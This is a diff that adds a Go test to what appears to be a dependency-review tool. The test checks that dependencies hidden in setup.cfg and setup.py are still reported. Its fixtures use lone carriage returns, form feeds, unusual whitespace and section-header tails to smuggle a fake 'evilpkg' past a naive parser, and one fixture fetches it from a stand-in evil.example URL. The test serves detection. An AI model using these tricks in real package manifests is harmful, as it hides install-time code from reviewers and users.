@@ -360,6 +360,58 @@ func TestSetupConstructs(t *testing.T) {
 	})
 }
 
+// TestSetupReadLikeSetuptools: setup.cfg and setup.py are split into lines as Python reads
+// them. configparser reads setup.cfg in universal-newline mode (a lone \r ends a line), strips
+// and indents by Python's whitespace (\x1c is whitespace there) and takes a line for a value's
+// continuation only when it is indented more than its key; setuptools splits a value with a
+// newline by str.splitlines() (\f ends a requirement); a section header may be followed by
+// text after its "]". Python's tokenizer ends a line of setup.py, and so a comment, at a lone
+// \r. Before, each of these hid a requirement setuptools installs: read inside a comment, as
+// the value of the key above, as the tail of another requirement (dropped with a comment), or
+// under no section at all.
+func TestSetupReadLikeSetuptools(t *testing.T) {
+	t.Parallel()
+	base := "[options]\ninstall_requires =\n    requests==2.31.0\n"
+	evil := "setup.cfg PyPI evilpkg added ->6.6.6\n"
+	runConstructs(t, []construct{
+		{
+			name: "CfgLoneCR", path: "setup.cfg", base: base,
+			patched: base + "# a comment\rsetup_requires = evilpkg==6.6.6\n",
+			want:    "setup.cfg PyPI evilpkg(build) added ->6.6.6\n",
+		},
+		{
+			name: "CfgKeyIndentedLikeTheKeyAbove", path: "setup.cfg",
+			base:    "[options]\n  zip_safe = False\n  install_requires = requests==2.31.0\n",
+			patched: "[options]\n  zip_safe = False\n  install_requires = requests==2.31.0; evilpkg==6.6.6\n",
+			want:    evil,
+		},
+		{
+			name: "CfgFormFeedInAValue", path: "setup.cfg", base: base,
+			patched: "[options]\ninstall_requires = # first\fevilpkg==6.6.6\n    requests==2.31.0\n",
+			want:    evil,
+		},
+		{
+			name: "CfgPythonWhitespaceIndent", path: "setup.cfg", base: base,
+			patched: "[options]\n\x1csetup_requires = evilpkg==6.6.6\ninstall_requires =\n    requests==2.31.0\n",
+			want:    "setup.cfg PyPI evilpkg(build) added ->6.6.6\n",
+		},
+		{
+			name: "CfgSectionHeaderWithText", path: "setup.cfg",
+			base:    "[options]\ninstall_requires = requests==2.31.0\n",
+			patched: "[options] # the options\ninstall_requires = requests==2.31.0; evilpkg==6.6.6\n",
+			want:    evil,
+		},
+		{
+			name: "PyLoneCR", path: "setup.py",
+			base: "from setuptools import setup\nsetup(name='a', install_requires=['requests==2.31.0'])\n",
+			patched: "from setuptools import setup\nsetup(name='a', install_requires=['requests==2.31.0'],  # pinned\r" +
+				"      setup_requires=['evilpkg @ https://evil.example/evilpkg-6.6.6.tar.gz'])\n",
+			want:      "setup.py PyPI evilpkg(build) added ->(no version) <url https://evil.example/evilpkg-6.6.6.tar.gz>\n",
+			newSource: "evilpkg",
+		},
+	})
+}
+
 // TestRedactURL: no credential of a URL is kept, whatever its form.
 func TestRedactURL(t *testing.T) {
 	t.Parallel()
